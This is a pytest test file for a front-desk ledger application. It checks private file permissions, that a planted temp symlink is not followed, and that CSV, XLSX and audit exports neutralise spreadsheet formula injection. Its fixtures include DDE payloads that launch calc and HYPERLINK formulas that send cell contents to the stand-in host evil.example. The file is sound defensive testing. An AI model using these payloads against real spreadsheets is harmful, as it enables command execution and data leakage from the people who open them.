"""What is on disk is private, and spreadsheets never run a value as a formula — through
the real CLI, SQLite and the console's audit export."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta

import httpx
from openpyxl import load_workbook

from tests.conftest import frontdesk


def _mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def _cli(data_dir, *args: str, stdin: str = "") -> subprocess.CompletedProcess:
    """The CLI as a shell with umask 022 (the usual default) starts it."""
    return subprocess.run(
        [sys.executable, "-m", "frontdesk.cli", "--data-dir", str(data_dir), *args],
        input=stdin, capture_output=True, text=True, check=True,
        preexec_fn=lambda: os.umask(0o022),
    )  # fmt: skip


def test_a_new_data_dir_and_its_ledger_are_private(tmp_path):
    var = tmp_path / "var"
    _cli(var, "users", "add", "boss", "--role", "admin", "--password-stdin", stdin="pw-123456\n")
    assert _mode(var) == 0o700
    assert _mode(var / "frontdesk.db") == 0o600
    out = tmp_path / "ledger.csv"  # an export outside the data dir: still only ours
    _cli(var, "ledger", "export", str(out))
    assert _mode(out) == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_an_existing_readable_data_dir_is_made_private_at_start(tmp_path):
    var = tmp_path / "var"
    _cli(var, "users", "list")
    day = var / "recordings" / "2026" / "11" / "30"
    day.mkdir(parents=True)
    (var / "frontdesk.toml").write_text("[phone]\npassword = 'sip-secret'\n")
    for d in (var, var / "recordings", var / "recordings" / "2026", day):
        os.chmod(d, 0o755)
    for f in ("frontdesk.db", "frontdesk.toml"):
        os.chmod(var / f, 0o644)
    r = _cli(var, "users", "list")
    assert "made private" in r.stderr
    assert _mode(var) == _mode(var / "recordings") == _mode(day) == 0o700
    assert _mode(var / "frontdesk.db") == _mode(var / "frontdesk.toml") == 0o600


def test_export_does_not_follow_a_planted_tmp_symlink(tmp_path):
    var = tmp_path / "var"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "out.csv.tmp").symlink_to(victim)
    frontdesk(var, "ledger", "export", str(tmp_path / "out.csv"))
    assert victim.read_text() == "keep me"


HOSTILE = {
    "caller_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "content": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "summary": "-2+3+cmd|' /C calc'!A0",
}
SHEET = (
    "登记时间,来源,电话,姓名,楼栋,单元,房号,类别,内容,派单部门,状态\n"
    f'2026-10-03 09:12,来电,+8613800138000,"{HOSTILE["caller_name"]}",4,2,301,报修,'
    f'"{HOSTILE["content"].replace(chr(34), chr(34) * 2)}",工程维修部,已登记\n'
)


def test_ledger_exports_write_formulas_as_text_and_import_back_unchanged(tmp_path):
    var = tmp_path / "var"
    f = tmp_path / "in.csv"
    f.write_text(SHEET, encoding="utf-8")
    frontdesk(var, "ledger", "import", str(f))
    frontdesk(var, "ledger", "export", str(tmp_path / "out.csv"))
    frontdesk(var, "ledger", "export", str(tmp_path / "out.xlsx"))
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + HOSTILE["content"] in cells and "'" + HOSTILE["caller_name"] in cells
    assert not [c for c in cells if c[:1] in ("=", "@")]
    assert "+8613800138000" in cells  # a phone number stays a phone number
    ws = load_workbook(tmp_path / "out.xlsx").active
    values = [c for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert HOSTILE["content"] in [c.value for c in values]  # the exact text, as a string
    # our own export imports back as the same values
    frontdesk(tmp_path / "var2", "ledger", "import", str(tmp_path / "out.csv"))
    [entry] = json.loads(frontdesk(tmp_path / "var2", "ledger", "list", "--format", "json").stdout)
    shown = json.loads(frontdesk(tmp_path / "var2", "ledger", "show", str(entry["id"]),
                                 "--format", "json").stdout)  # fmt: skip
    assert shown["caller_name"] == HOSTILE["caller_name"]
    assert shown["content"] == HOSTILE["content"]


def test_audit_csv_writes_a_sip_caller_as_text(tmp_path):
    """The SIP From user part is the caller's to choose: =cmd… must not run in Excel."""
    from tests.console.conftest import add_people

    console_dir = tmp_path / "var"
    console_dir.mkdir()
    add_people(console_dir)
    from domain.calls import CallRecord
    from frontdesk.config import load_config
    from ledger import calls
    from ledger.db import open_database
    from ledger.reconcile import Rules, reconcile

    cfg = load_config(console_dir)
    sessions = open_database(cfg.database_url)
    now = datetime.now(UTC).replace(microsecond=0)
    evil = '=HYPERLINK("http://evil.example","x")'
    with sessions() as s:
        calls.record_call(s, CallRecord(
            uuid="evil", sip_call_id="evil@127.0.0.1", caller=evil, callee="8001",
            invited_at=now - timedelta(minutes=30), answered_at=now - timedelta(minutes=29),
            ended_at=now - timedelta(minutes=28), rings=5, answered_by="auto",
            outcome="answered", cause="caller hung up"))  # fmt: skip
        s.commit()
        reconcile(s, now=now, rules=Rules(recordings_root=cfg.recordings_dir))
        s.commit()
    with sessions() as s:
        from ledger.models import Finding

        assert s.query(Finding).count() >= 1, "a finding to export"
    from tests.console.conftest import serving
    from tests.console.test_security import _post_login

    for server in serving(console_dir, tmp_path):
        with httpx.Client(base_url=server.url) as c:
            login = _post_login(c, "super1", "correct-horse-9")
            c.headers["Cookie"] = f"fd_session={login.cookies['fd_session']}"
            text = c.get("/audit/export.csv").content.decode("utf-8-sig")
        cells = [x for row in csv.reader(io.StringIO(text)) for x in row]
        assert "'" + evil in cells and evil not in cells
